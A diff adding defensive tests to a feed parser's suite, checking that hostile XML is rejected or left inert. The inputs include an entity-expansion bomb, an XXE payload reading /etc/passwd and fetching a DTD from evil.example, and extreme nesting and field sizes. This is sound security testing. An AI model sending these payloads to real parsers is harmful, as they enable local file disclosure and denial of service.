@@ -205,6 +205,111 @@ describe('parseFeed: not a feed', () => {
   });
 });
 
+describe('parseFeed: hostile documents', () => {
+  function code(fn: () => unknown): string | null {
+    try {
+      fn();
+      return null;
+    } catch (err) {
+      expect(err).toBeInstanceOf(NewsrelayError);
+      return (err as NewsrelayError).code;
+    }
+  }
+
+  it('refuses a flat repetition of a large entity before building it (it made a 200 M-character title)', () => {
+    const value = '中'.repeat(1000);
+    const xml = `<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY a "${value}">]><rss><channel><item><title>${'&a;'.repeat(200_000)}</title><link>https://x.cn/1</link></item></channel></rss>`;
+    expect(code(() => parseFeed(xml, {}))).toBe('entity_expansion');
+  });
+
+  it('still expands a moderate use of internal entities, and leaves nested ones inert', () => {
+    const xml = `<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY site "新华网"><!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;">]><rss><channel><title>&site;</title><item><title>&site; ${'&site;'.repeat(100)} &lol2;</title><link>https://x.cn/1</link></item></channel></rss>`;
+    const feed = parseFeed(xml, {});
+    expect(feed.title).toBe('新华网');
+    expect(feed.entries[0]?.title?.startsWith('新华网 新华网新华网')).toBe(true);
+    expect(feed.entries[0]?.title?.endsWith('&lol;&lol;')).toBe(true);
+  });
+
+  it('never reads external entities', () => {
+    const xml = `<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY xxe SYSTEM "file:///etc/passwd"><!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;]><rss><channel><item><title>a&xxe;b</title><link>https://x.cn/1</link></item></channel></rss>`;
+    const feed = parseFeed(xml, {});
+    expect(feed.entries[0]?.title).toBe('a&xxe;b');
+  });
+
+  it('refuses nesting that would make the XML parser quadratic', () => {
+    const deep = `<rss><channel>${'<x>'.repeat(100_000)}</channel></rss>`;
+    expect(code(() => parseFeed(deep, {}))).toBe('too_deep');
+    const wide = `<rss><channel>${'<x>'.repeat(1999)}${'</nope>'.repeat(100_000)}</channel></rss>`;
+    expect(code(() => parseFeed(wide, {}))).toBe('too_deep');
+  });
+
+  it('reads only the newest 1,000 entries of RSS, Atom and JSON Feed, undated ones last', () => {
+    const at = (i: number) => new Date(Date.UTC(2025, 0, 1) + i * 60_000).toISOString();
+    // Entry 0 is undated: it loses to every dated one.
+    const rssItems = Array.from({ length: 1200 }, (_, i) =>
+      i === 0
+        ? '<item><title>无日期</title><link>https://x.cn/0</link></item>'
+        : `<item><title>条目${i}</title><link>https://x.cn/${i}</link><pubDate>${at(i)}</pubDate></item>`,
+    ).join('');
+    const rss = parseFeed(`<rss><channel>${rssItems}</channel></rss>`, {});
+    const atomEntries = Array.from(
+      { length: 1200 },
+      (_, i) =>
+        `<entry><title>条目${i}</title><id>https://x.cn/${i}</id><updated>${at(1199 - i)}</updated></entry>`,
+    ).join('');
+    const atom = parseFeed(`<feed xmlns="http://www.w3.org/2005/Atom">${atomEntries}</feed>`, {});
+    const json = parseFeed(
+      JSON.stringify({
+        version: 'https://jsonfeed.org/version/1.1',
+        items: Array.from({ length: 1200 }, (_, i) => ({
+          id: String(i),
+          url: `https://x.cn/${i}`,
+          title: `条目${i}`,
+          date_published: at(i % 600),
+        })),
+      }),
+      {},
+    );
+    for (const feed of [rss, atom, json]) {
+      expect(feed.entries).toHaveLength(1000);
+      expect(feed.droppedEntries).toBe(200);
+    }
+    expect(rss.entries[0]?.title).toBe('条目200');
+    expect(rss.entries.some((e) => e.title === '无日期')).toBe(false);
+    // Atom lists newest first here: the first 1,000 are kept, in document order.
+    expect(atom.entries[0]?.title).toBe('条目0');
+    expect(atom.entries[999]?.title).toBe('条目999');
+    // Dates 0–599 appear twice each: 100–599 fill the 1,000 places, and 0–99 are dropped.
+    expect(json.entries[0]?.title).toBe('条目100');
+    expect(json.entries.some((e) => e.title === '条目699')).toBe(false);
+    expect(json.entries.some((e) => e.title === '条目700')).toBe(true);
+  });
+
+  it('reads at most 100 attributes of an element', () => {
+    const attrs = Array.from({ length: 5000 }, (_, i) => `a${i}="${i}"`).join(' ');
+    const feed = parseFeed(
+      `<rss><channel><item ${attrs}><title>属性</title><link>https://x.cn/1</link></item></channel></rss>`,
+      {},
+    );
+    expect(feed.entries[0]?.title).toBe('属性');
+    expect(feed.clippedFields).toBe(1);
+  });
+
+  it('cuts a megabyte field before processing it and counts it', () => {
+    const xml = `<rss><channel><item><title>${'长'.repeat(3_000_000)}</title><link>https://x.cn/1</link></item></channel></rss>`;
+    const feed = parseFeed(xml, {});
+    expect(feed.entries[0]?.title?.length).toBe(100_000);
+    expect(feed.clippedFields).toBe(1);
+    const json = JSON.stringify({
+      version: 'https://jsonfeed.org/version/1.1',
+      items: [{ id: '1', url: 'https://x.cn/1', title: '长'.repeat(3_000_000) }],
+    });
+    const jf = parseFeed(json, {});
+    expect(jf.entries[0]?.title?.length).toBe(100_000);
+    expect(jf.clippedFields).toBe(1);
+  });
+});
+
 describe('sniffDocument', () => {
   it('classifies documents', () => {
     expect(sniffDocument('\ufeff<?xml version="1.0"?>\n<!-- c --><rss version="2.0"/>', null)).toBe(
